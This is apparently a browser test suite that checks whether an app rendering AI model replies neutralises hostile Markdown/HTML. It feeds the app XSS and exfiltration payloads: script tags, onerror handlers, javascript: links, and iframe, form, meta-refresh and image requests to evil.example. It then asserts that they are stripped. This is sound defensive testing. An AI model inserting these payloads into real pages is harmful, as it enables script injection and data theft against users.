// A model's reply is untrusted: whatever it contains, nothing runs, no other host is contacted and
// nothing in it can move the app's own tab, even when the person clicks on it.
import type { Browser, Page } from 'playwright-core';
import { afterAll, afterEach, beforeAll, beforeEach, describe, expect, it } from 'vitest';
import { type FakeOllama, startFakeOllama } from '../fake-ollama/server.ts';
import { makePng } from '../fixtures/images.ts';
import { type OpenedApp, addFiles, launchBrowser, openApp, row, startApp } from './harness.ts';

let browser: Browser;
let app: { url: string; close: () => Promise<void> };
let ollama: FakeOllama;
let opened: OpenedApp;
let dialogs: string[];
let navigations: string[];

const pwned = (page: Page) => page.evaluate(() => (window as unknown as { __pwned?: number }).__pwned);
const otherHosts = (requests: string[]) => requests.filter((url) => !/^(http:\/\/(localhost|127\.0\.0\.1)(:\d+)?\/|blob:|data:)/.test(url));

/** Add one image and wait until its hostile reply is rendered in the detail view. */
async function showReply(page: Page, reply: string, marker: string) {
  ollama.setReply(reply);
  await addFiles(page, [{ name: 'evil.png', mimeType: 'image/png', buffer: makePng(64, 64, () => [66, 6, 6]) }]);
  await expect.poll(() => row(page, 'evil.png').locator('[data-phase]').getAttribute('data-phase'), { timeout: 20_000 }).toBe('done');
  const markdown = page.getByTestId('result').getByTestId('markdown');
  await expect.poll(() => markdown.textContent(), { timeout: 20_000 }).toContain(marker);
  return markdown;
}

beforeAll(async () => {
  [browser, app, ollama] = await Promise.all([launchBrowser(), startApp(), startFakeOllama()]);
});
afterAll(async () => {
  await Promise.all([browser?.close(), app?.close(), ollama?.close()]);
});
beforeEach(async () => {
  ollama.clearRequests();
  ollama.configure({ chunkDelayMs: 1 });
  opened = await openApp(browser, app.url, ollama.url);
  await expect.poll(() => opened.page.locator('[data-status]').getAttribute('data-status')).toBe('connected');
  dialogs = [];
  navigations = [];
  opened.page.on('dialog', (dialog) => {
    dialogs.push(dialog.message());
    void dialog.dismiss();
  });
  opened.page.on('framenavigated', (frame) => {
    if (frame === opened.page.mainFrame()) navigations.push(frame.url());
  });
});
afterEach(async () => {
  ollama.setReply(undefined);
  await opened.context.close();
});

describe('a hostile reply', () => {
  it('runs no script and contacts no other host', async () => {
    const { page, requests } = opened;
    const markdown = await showReply(
      page,
      [
        '# Hi',
        '<script>window.__pwned = 1</script>',
        '<img src="http://evil.example/pixel.png" onerror="window.__pwned = 2">',
        '![x](http://evil.example/md.png)',
        '[link](javascript:window.__pwned=3)',
        '<iframe src="http://evil.example/frame"></iframe>',
        '<div style="background:url(http://evil.example/bg.png)">styled</div>',
        '<svg><image href="http://evil.example/svg.png"/></svg>',
        '<link rel="stylesheet" href="http://evil.example/x.css">',
        'The end.',
      ].join('\n\n'),
      'The end.',
    );
    const html = await markdown.innerHTML();
    expect(html).not.toMatch(/<script|onerror|javascript:|<iframe|<img|<svg|<link|evil\.example/);
    // The javascript: link keeps its text but loses its href, so clicking it does nothing.
    const link = markdown.locator('a', { hasText: 'link' });
    expect(await link.getAttribute('href')).toBeNull();
    await link.click();
    expect(await pwned(page)).toBeUndefined();
    expect(dialogs).toEqual([]);
    expect(otherHosts(requests)).toEqual([]);
  });

  it('stays inert with image maps, forms, formaction, SVG links and meta refresh, even when clicked', async () => {
    const { page, context, requests } = opened;
    const startUrl = page.url();
    const dot = `data:image/png;base64,${makePng(120, 60, () => [0, 120, 200]).toString('base64')}`;
    const markdown = await showReply(
      page,
      [
        '# Click me',
        `<img src="${dot}" alt="Map picture" usemap="#m" ismap width="120" height="60"><map name="m"><area shape="rect" coords="0,0,120,60" href="http://evil.example/area" alt="Area link"></map>`,
        '<form action="http://evil.example/submit" method="get"><input name="q" value="secret"><button type="submit">Submit form</button></form>',
        '<button formaction="http://evil.example/formaction" form="anything">Formaction button</button>',
        '<svg width="200" height="30"><a xlink:href="javascript:alert(4)"><text x="0" y="20">SVG link</text></a></svg>',
        '<svg width="20" height="20"><use href="http://evil.example/sprite.svg#i"/></svg>',
        '<meta http-equiv="refresh" content="0;url=http://evil.example/refresh">',
        '<base href="http://evil.example/">',
        '<a href="javascript:alert(5)">Raw JS link</a> [JS link](javascript:alert(3))',
        '<a href="/?reset=1">Relative link</a> <a href="#top">Fragment link</a> <a href="https://example.com/" target="_self">Same-tab link</a>',
        '<div href="http://evil.example/div" onclick="alert(6)">Div with href</div>',
        'The end.',
      ].join('\n\n'),
      'The end.',
    );
    expect(await markdown.locator('map, area, form, input, button, meta, base, svg, use, [usemap], [formaction], [action]').count()).toBe(0);

    await markdown.getByRole('img', { name: 'Map picture' }).click();
    for (const text of ['Submit form', 'Formaction button', 'SVG link', 'Raw JS link', 'JS link', 'Relative link', 'Fragment link', 'Div with href']) {
      // Whatever is left of each is clickable text; what was removed entirely cannot be clicked.
      const left = markdown.getByText(text, { exact: true });
      if ((await left.count()) > 0) await left.first().click();
    }

    // The one link that may be followed opens a new tab that knows nothing of this one.
    const sameTab = markdown.getByRole('link', { name: 'Same-tab link' });
    expect(await sameTab.getAttribute('target')).toBe('_blank');
    expect(await sameTab.getAttribute('rel')).toBe('noopener noreferrer');

    // The app is still here and still works: its own button answers after all those clicks.
    await page.getByRole('button', { name: 'Edit', exact: true }).click();
    await page.getByRole('button', { name: 'Cancel' }).click();
    expect(page.url()).toBe(startUrl);
    expect(navigations).toEqual([]);
    expect(context.pages()).toHaveLength(1);
    expect(dialogs).toEqual([]);
    expect(await pwned(page)).toBeUndefined();
    expect(otherHosts(requests)).toEqual([]);
    expect(await row(page, 'evil.png').count()).toBe(1);
  });
});
